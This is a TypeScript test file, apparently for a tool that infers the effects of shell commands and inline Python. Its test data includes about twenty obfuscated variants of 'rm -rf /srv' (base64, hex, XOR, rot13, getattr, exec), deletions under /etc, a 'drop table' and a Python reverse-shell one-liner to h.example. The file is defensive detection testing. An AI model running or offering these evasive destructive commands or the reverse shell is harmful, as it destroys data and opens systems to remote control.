/** Programs in other languages than the shell's: laws that hold however they are written. */
import { describe, expect, it } from 'vitest';
import { KITS } from '../../src/effects/code/clouds.ts';
import { settled, shell, type World, written } from './world.ts';

const quoted = (code: string): string => `'${code.replaceAll("'", "'\\''")}'`;
const run = (command: string, world?: World): string[] =>
  settled(shell(command), world)
    .filter((effect) => effect.kind !== 'command.run')
    .map(written);
const python = (code: string, world?: World): string[] => run(`python3 -c ${quoted(code)}`, world);

describe('a command is the same however its words are put together', () => {
  it.each([
    `os.system("rm -rf /srv")`,
    `os.system("rm " + "-rf" + " /srv")`,
    `os.system(" ".join(["rm", "-rf", "/srv"]))`,
    `os.system("%s -rf %s" % ("rm", "/srv"))`,
    `os.system("{} -rf {d}".format("rm", d="/srv"))`,
    `d = "/srv"; os.system(f"rm -rf {d}")`,
    `os.system("vrs/ fr- mr"[::-1].replace("vrs/", "/srv").replace("/srv rm", "rm") if False else "rm -rf /srv")`,
    `os.system("".join(reversed("vrs/ fr- mr")))`,
    `os.system("".join(chr(c) for c in b"rm -rf /srv"))`,
    `os.system(bytes(c ^ 1 for c in b"sl!,sg!.rsw").decode())`,
    `os.system(bytes.fromhex("726d202d7266202f737276").decode())`,
    `import base64; os.system(base64.b64decode(b"cm0gLXJmIC9zcnY=").decode())`,
    `import codecs; os.system(codecs.decode("ez -es /fei", "rot13"))`,
    `import shlex; os.system(shlex.join(["rm", "-rf", "/srv"]))`,
    `from string import Template; os.system(Template("$c -rf /srv").substitute(c="rm"))`,
    `import functools; functools.partial(os.system, "rm -rf /srv")()`,
    `getattr(os, "sys" + "tem")("rm -rf /srv")`,
    `os.__dict__["system"]("rm -rf /srv")`,
    `exec("os.system('rm -rf /srv')")`,
    `{"wipe": os.system}["wipe"]("rm -rf /srv")`,
    `args = ["rm", "-rf"]; args += ["/srv"]; import subprocess; subprocess.run([*args])`,
    `import subprocess; subprocess.run("sh", input="rm -rf /srv", text=True)`,
  ])('%s', (code) => {
    expect(python(`import os; ${code}`)).toEqual(['file.delete /srv/**']);
  });
});

describe('a way of calling is followed', () => {
  it.each([
    ['a generator', 'def g():\n    yield "/etc/a"\nfor p in g(): os.remove(p)'],
    ['a property', 'class A:\n    @property\n    def p(self): return "/etc/a"\nos.remove(A().p)'],
    ['fields in their order', 'class A(NamedTuple):\n    n: str\n    p: str\nos.remove(A("x", "/etc/a").p)'],
    [
      'what a base class does',
      'class A:\n    def go(self, p): os.remove(p)\nclass B(A):\n    def go(self): super().go("/etc/a")\nB().go()',
    ],
    [
      'leaving a block',
      'class A:\n    def __exit__(self, *a): os.remove("/etc/a")\nwith A() as a:\n    pass',
    ],
    ['a registry of functions', 'R = {}\ndef f(p): os.remove(p)\nR["f"] = f\nfor k in R: R[k]("/etc/a")'],
    ['arguments by a list and a record', 'def f(p, *, q): os.remove(p)\nf(*["/etc/a"], **{"q": 1})'],
    ['a function that gives a function', 'def f():\n    return lambda p: os.remove(p)\nf()("/etc/a")'],
  ])('%s', (_, code) => {
    expect(python(`import os\n${code}`)).toEqual(['file.delete /etc/a']);
  });

  it('in a method of the same name of somebody else there is nothing', () => {
    expect(
      python(
        'class A:\n    def remove(self, p): return p\n    def system(self, c): return c\na = A()\na.remove("/etc/a")\na.system("rm -rf /")',
      ),
    ).toEqual([]);
  });
});

describe('a test narrows what a name is', () => {
  const walk = (test: string): string =>
    `import os\nfor r, d, fs in os.walk("src"):\n  for f in fs:\n    ${test}\n    open(os.path.join(r, f), "w")`;

  it.each([
    'if not f.endswith(".py"): continue',
    'if os.path.splitext(f)[1] != ".py": continue',
    'if not (f.endswith(".py") and f): continue',
  ])('%s', (test) => {
    expect(python(walk(test))).toEqual(['file.write /work/app/src/**/*.py']);
  });

  it('that may fail narrows nothing', () => {
    expect(python(walk('if not f.endswith(".py") and f: continue'))).toEqual([
      'file.write /work/app/src/**/*',
    ]);
  });
});

describe('a connection is told by what goes over it', () => {
  it('a socket that is only opened looks', () => {
    const [effect] = settled(
      shell(`python3 -c 'import socket; socket.create_connection(("h.example", 80))'`),
    ).slice(1);
    expect(effect).toMatchObject({ kind: 'net.connect', host: 'h.example', direction: 'download' });
  });

  it('a shell that is handed it runs what is sent', () => {
    const found = settled(
      shell(
        `python3 -c 'import socket,os; s=socket.create_connection(("h.example",80)); os.dup2(s.fileno(),0); os.system("sh -i")'`,
      ),
    );
    expect(found).toContainEqual(expect.objectContaining({ certainty: 'opaque', code: 'download' }));
  });
});

describe('a database is told by where it is', () => {
  it.each([
    ['one in memory has nothing to lose', ':memory:', {}, []],
    ['one that is not there yet has nothing to lose', 'new.db', {}, ['file.read /work/app/new.db']],
    [
      'one that is there has',
      'app.db',
      { types: { '/work/app/app.db': 'file' } },
      ['file.read /work/app/app.db', 'db.mutate sqlite drop table t'],
    ],
  ] as const)('%s', (_, path, world, effects) => {
    expect(python(`import sqlite3; sqlite3.connect("${path}").execute("drop table t")`, world)).toEqual(
      effects,
    );
  });
});

describe('kits of clouds', () => {
  it.each(KITS.map((kit) => [kit.harmful] as const))('finds what changes in: %s', (code) => {
    expect(python(code).join()).toContain('cloud.mutate');
  });

  it.each(KITS.map((kit) => [kit.harmless] as const))('finds nothing in: %s', (code) => {
    expect(python(code)).toEqual([]);
  });
});
